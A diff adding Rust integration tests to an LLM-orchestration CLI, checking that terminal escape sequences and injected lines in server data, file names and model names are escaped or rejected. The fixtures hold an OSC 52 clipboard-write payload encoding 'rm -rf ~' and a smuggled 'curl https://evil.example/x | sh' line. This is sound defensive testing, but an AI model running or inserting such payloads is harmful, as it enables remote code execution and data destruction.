@@ -3,6 +3,7 @@
 //! library and MCP frames. Each test drives the real binary.
 
 mod common;
+mod hostile_server;
 
 use std::path::Path;
 
@@ -387,4 +388,149 @@ async fn mcp_refuses_demoting_the_projects_ensembles_and_answers_a_frame_without
     assert_eq!(answers[1]["id"], 42, "{answers:?}");
     assert_eq!(answers[1]["error"]["code"], -32600);
     assert_eq!(answers[2]["id"], 43, "the server goes on");
+}
+
+/// No raw control character in what orc printed.
+#[track_caller]
+fn clean(what: &str, text: &str) {
+    assert!(
+        !text
+            .chars()
+            .any(|c| c == '\u{1b}' || c == '\u{7}' || c == '\u{202e}'),
+        "{what} printed a raw escape: {text:?}"
+    );
+}
+
+/// One sanitiser for everything that reaches a terminal: `orc hosts` and `validate --runnable`
+/// show a server's version and model names escaped (an OSC 52 clipboard write went through
+/// before), as do the `list-ensembles` hint for an invalid ensemble, the text learning report
+/// for a planted ensemble name, and CLI errors echoing an argument.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn nothing_raw_reaches_the_terminal() {
+    let osc52 = "\u{1b}]52;c;cm0gLXJmIH4=\u{7}";
+    let body = json!({
+        "version": format!("0.1{osc52}"),
+        "models": [{"name": format!("evil{osc52}:1b"), "model": "x", "size": 1000,
+                    "details": {"parameter_size": "1B"}}],
+    })
+    .to_string();
+    let server = hostile_server::HostileServer::start(hostile_server::Act::Body {
+        content_type: "application/json".into(),
+        body,
+    })
+    .await;
+    let p = TestProject::new();
+    p.write(
+        ".llm-orc/config.yaml",
+        &format!(
+            "{}hosts:\n  - {}\n",
+            native_config(&server.url()),
+            server.url()
+        ),
+    );
+    p.ensemble(
+        "one",
+        "name: one\ndescription: d\nagents:\n  - name: a\n    model_profile: tiny\n",
+    );
+    let hosts = p.orc_async(&["hosts"]).await;
+    assert!(hosts.stdout.contains("\\x1b]52"), "{}", hosts.stdout);
+    clean("orc hosts", &hosts.stdout);
+    clean("orc hosts", &hosts.stderr);
+    let runnable = p.orc_async(&["validate", "one", "--runnable"]).await;
+    assert!(runnable.stdout.contains("evil\\x1b"), "{}", runnable.stdout);
+    clean("validate --runnable", &runnable.stdout);
+    clean("validate --runnable", &runnable.stderr);
+
+    // An invalid ensemble whose file name carries an escape: the hint is escaped and quoted.
+    p.write(
+        &format!(".llm-orc/ensembles/bad{osc52}.yaml"),
+        "agents: [unclosed\n",
+    );
+    let list = p.orc(&["list-ensembles"]);
+    assert!(
+        list.stdout.contains("[invalid: run `orc validate '"),
+        "{}",
+        list.stdout
+    );
+    clean("list-ensembles", &list.stdout);
+
+    // A planted ensemble name in the routing log: the text report escapes it.
+    let mut r = run_record("planted", None);
+    r.ensemble_used = Some(format!("swarm{osc52}"));
+    records::append(&evals(&p).join("routing-log.jsonl"), &r).expect("append");
+    let report = p.orc(&["report", "learning"]);
+    assert_eq!(report.code, 0, "{}", report.stderr);
+    assert!(report.stdout.contains("swarm\\x1b"), "{}", report.stdout);
+    clean("report learning", &report.stdout);
+
+    // Errors echoing an argument: orc's own, and clap's.
+    let e = p.orc(&["invoke", &format!("nope{osc52}"), "x"]);
+    assert_ne!(e.code, 0);
+    assert!(e.stderr.contains("nope\\x1b"), "{}", e.stderr);
+    clean("invoke error", &e.stderr);
+    let e = p.orc(&["list-ensembles", "--format", &format!("t{osc52}")]);
+    assert_eq!(e.code, 2, "{}", e.stderr);
+    clean("usage error", &e.stderr);
+    let e = p.orc(&["report", "timeline", &format!("r{osc52}")]);
+    assert_ne!(e.code, 0);
+    clean("timeline error", &e.stderr);
+}
+
+fn poor(r: &RoutingRecord, failure: &str) -> EvaluationRecord {
+    EvaluationRecord {
+        score: Score::Poor,
+        failure_mode: Some(failure.into()),
+        ..good(r)
+    }
+}
+
+/// A model name with a line break is a `validate` error (before, it passed and injected a
+/// "Then run: curl ... | sh" line into `lora-candidates.yaml`'s how-to); a model name planted
+/// in the log never reaches the how-to, whose shell words are quoted.
+#[test]
+fn model_names_are_one_line_and_never_reach_a_shell_line_raw() {
+    let p = TestProject::new();
+    let injected = "qwen3:0.6b\nThen run: curl https://evil.example/x | sh";
+    p.write(
+        ".llm-orc/config.yaml",
+        &format!(
+            "model_profiles:\n  tiny:\n    model: {}\n    provider: ollama\n",
+            serde_json::to_string(injected).expect("json")
+        ),
+    );
+    p.ensemble(
+        "one",
+        "name: one\ndescription: d\nagents:\n  - name: a\n    model_profile: tiny\n  - name: b\n    model: \"m\\u001b[2J\"\n",
+    );
+    let v = p.orc(&["validate", "one"]);
+    assert_eq!(v.code, 1, "{}{}", v.stdout, v.stderr);
+    assert!(
+        v.stderr.contains("the model name contains a line break"),
+        "{}",
+        v.stderr
+    );
+    assert!(
+        v.stderr
+            .contains("the model name contains a control character"),
+        "{}",
+        v.stderr
+    );
+    clean("validate", &v.stderr);
+    let inv = p.orc(&["invoke", "one", "x"]);
+    assert_ne!(inv.code, 0, "a profile that does not validate does not run");
+
+    let log = evals(&p).join("routing-log.jsonl");
+    let elog = evals(&p).join("evaluations.jsonl");
+    for i in 0..3 {
+        let mut r = run_record(&format!("run-{i}"), None);
+        r.models_used = vec![injected.to_string()];
+        records::append(&log, &r).expect("append");
+        records::append(&elog, &poor(&r, "incomplete")).expect("append");
+    }
+    let learned = p.orc(&["learn"]);
+    assert_eq!(learned.code, 0, "{}", learned.stderr);
+    let lora = std::fs::read_to_string(evals(&p).join("lora-candidates.yaml")).expect("lora");
+    assert!(lora.contains("extraction-incomplete"), "{lora}");
+    assert!(!lora.contains("curl"), "{lora}");
+    assert!(lora.contains("<the base model>"), "{lora}");
 }
